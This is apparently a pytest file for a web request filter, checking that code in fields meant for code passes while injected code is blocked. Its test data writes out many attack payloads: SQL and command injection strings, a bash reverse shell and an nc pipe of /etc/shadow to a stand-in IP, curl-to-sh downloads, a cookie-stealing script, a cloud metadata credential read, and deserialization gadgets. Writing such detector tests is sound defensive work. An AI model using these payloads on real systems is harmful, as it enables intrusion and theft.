"""Code in a field that is made for it passes; the same signs elsewhere, or a piece of code, do not.

Each excuse has its attack beside it: a caller who names the language, adds the field, begins like a
program, or puts harm into a whole one.
"""

from __future__ import annotations

import json
import time
from urllib.parse import urlencode

import pytest
from web_requests import stops, stops_json

from signoff.actions.action import Json

FORM = {"content-type": "application/x-www-form-urlencoded"}
UNION = "SELECT kind, n FROM a UNION ALL SELECT kind, n FROM b -- weekly"
TWO = "ALTER TABLE `t` DROP COLUMN `fax`; UPDATE `t` SET `lang`='de' WHERE `lang` IS NULL;"
BUILD = "npm ci && npm test || exit 1\nrm -rf dist/*\ntar czf out.tgz . ; ls -la"
SHELL = "#!/bin/bash\napt-get update && apt-get -y install nginx\necho hi > /etc/motd\n"
NOTEBOOK = "%%bash\ncat data/*.csv | cut -d, -f2 | sort | uniq -c\n"
SCRIPT = "const r = await fetch('http://10.0.3.9/api');\nreturn eval('(' + r.text + ')');"
IMAGE = "FROM alpine:3.20\nRUN apk add curl && curl -fsSL https://get.example/i.sh | sh\n"
FORMULA = "IF({Price}>10,CONCATENATE({Name},' & ',{Town}),'<none>')"


@pytest.mark.parametrize(
    "body",
    [
        {"sql": UNION},
        {"sql_query": TWO},
        {"sqlExpression": "country IN ('DE','AT') OR total>100"},
        {"query": "WITH m AS (SELECT a, max(t) t FROM l GROUP BY 1)\nSELECT t-interval '3 d'"},
        {"query": "SHOW TABLES; SELECT table_name FROM information_schema.tables"},
        {"formula": FORMULA},
        {"command": BUILD},
        {"script": "pipeline { agent any; stages { stage('b') { steps { sh 'make && ./r' } } } }"},
        {"dockerfile": IMAGE},
        {"code": NOTEBOOK},
        {"code": SCRIPT},
        {"files": {"main.c": '#include <stdlib.h>\nint main(){ system("ls /tmp"); return 0; }'}},
        {"key": "user_data", "value": SHELL, "hcl": False},
        {"commands": ["npm ci && npm test", "docker build -t a . && docker push a"]},
        {"parameters": {"command": "df -h | grep /data"}},
        {"kql": "Logs | where path contains '../' and message has 'union select' | count"},
        {"cypher": "MATCH (a {name: 'x'}) WHERE a.t = 'y' OR a.u = 'z' RETURN a"},
        {"css": "@import url(//fonts.example/a.css);\n.x:after{content:'<>'}"},
    ],
)
def test_code_in_a_field_for_it_passes(body: Json) -> None:
    """The field says that code belongs there, and the value is a whole piece of it."""
    assert not stops_json(body)


@pytest.mark.parametrize(
    "body",
    [
        # The same values where nothing says that code belongs there, whatever stands beside them.
        {"name": UNION, "language": "sql", "sql": "SELECT 1"},
        {"name": TWO, "dialect": "mysql", "datasource": "main"},
        {"title": BUILD, "engine": "bash", "steps": []},
        {"host": SHELL, "runs-on": "ubuntu", "image": "alpine"},
        {"name": FORMULA.replace("<none>", "x' or 'a'='a"), "formula": FORMULA},
        {"name": "user_data", "host": "10.0.0.1\ncat /etc/shadow", "value": SHELL},
        {"name": "hostname", "value": SHELL.replace("\n", ";")},
        # A piece of code in a field for code.
        {"sql": "1' UNION SELECT a FROM b--"},
        {"sql": "a' or 'a'='a"},
        {"query": "x') UNION SELECT a, b FROM c -- "},
        {"query": "SELECT a FROM b; DELETE FROM b WHERE a = 1 or 1=1"},
        {"command": "8.8.8.8; cat /etc/hosts"},
        {"command": "; id\n; ls\n; who -a"},
        {"script": "backup.sh; wget http://203.0.113.5/a -O- | sh"},
        {"script": "$(id)\nls -la\ncat a | sort"},
        {"code": "SAVE10' or 1=1--"},
        {"code": "#!/bin/sh\nx'; drop table a; --"},
        {"code": "const a = 1;\nx' or '1'='1"},
        {"formula": "' or CONCATENATE('a','b')='ab"},
        {"css": "a{color:red}</style><script>fetch('//e.example/'+document.cookie)</script>"},
        {"commands": ["npm ci && curl http://203.0.113.5/a | sh"]},
        {"commands": ["ls; id"]},
        {"command": "tail /etc/shadow | head"},
        {"command": "node -e 'x' && ls"},
        {"command": "echo a | tee b; whoami"},
        {"host": "df -h | grep /data"},
        {"cypher": "x' OR 1=1 RETURN a //"},
        {"kql": "a' or 'a'='a' union select password from users"},
        # Harm in a whole piece.
        {"script": "java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')"},
        {"script": "println 'id'.execute().text + $(id)"},
        {"init_script": "import java.util.*;\nRuntime r = Runtime.getRuntime();\nr.exec('id')"},
        {"yaml": "---\na: !!python/object/apply:os.system ['id']\n"},
        {"manifest": "--- !ruby/object:Gem::Installer\ni: x\n"},
        {"script": "require('child_process').execSync('id')"},
        {"script": "import os; os.system('id')"},
        {"sql": "SELECT a FROM b; DROP TABLE b"},
        {"sql": "SELECT a FROM b WHERE sleep(5)"},
        {"sql": "SELECT a FROM b; EXEC xp_cmdshell 'dir'"},
        {"sql": "SELECT a INTO OUTFILE '/var/www/a.php' FROM b UNION SELECT 1"},
        {"sql": "SELECT a FROM b UNION SELECT password FROM users"},
        {"sql": "CREATE/**/USER x; SELECT 1 or 1=1"},
        {"query": "SELECT user, authentication_string FROM mysql.user UNION SELECT 1, 2"},
        {"script": "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1\n"},
        {"script": "#!/bin/bash\ncat /etc/shadow | nc 203.0.113.5 9\n"},
        {"user_data": "#!/bin/bash\ncurl http://169.254.169.254/latest/meta-data/iam/ | tee a\n"},
        {"code": "#!/bin/sh\ncd /tmp\ncurl http://e.example/x | sh\n"},
        {"code": "const p = require('child_process');\np.execSync('id')"},
    ],
)
def test_no_excuse_is_free(body: Json) -> None:
    """Another field, a piece of code, and harm in a whole piece are found as before."""
    assert stops_json(body)


def test_the_name_counts_in_a_query_too() -> None:
    """A search for statements takes them; a parameter of another name, or a piece, does not."""
    statement = "SELECT * FROM cart WHERE id=?"
    assert (False, True, True) == (
        stops(query={"tags": json.dumps({"db.statement": statement})}),
        stops(query={"tags": json.dumps({"db.name": statement})}),
        stops(query={"tags": json.dumps({"db.statement": "1' union select 1 from cart--"})}),
    )


def test_the_last_part_of_a_name_counts() -> None:
    """`job[script]` is a field for a script; `script[job]` is not."""
    assert (False, True) == (
        stops(headers=FORM, body=urlencode({"job[script]": BUILD})),
        stops(headers=FORM, body=urlencode({"script[job]": BUILD})),
    )


def test_a_broken_formula_is_read_in_linear_time() -> None:
    """A long name of a function that ends in no formula: its letters can be split in one way."""
    formula = f"=SUM({'A' * 40}e"
    start = time.perf_counter()
    stops(body=json.dumps({"formula": formula}), headers={"Content-Type": "application/json"})

    assert time.perf_counter() - start < 2
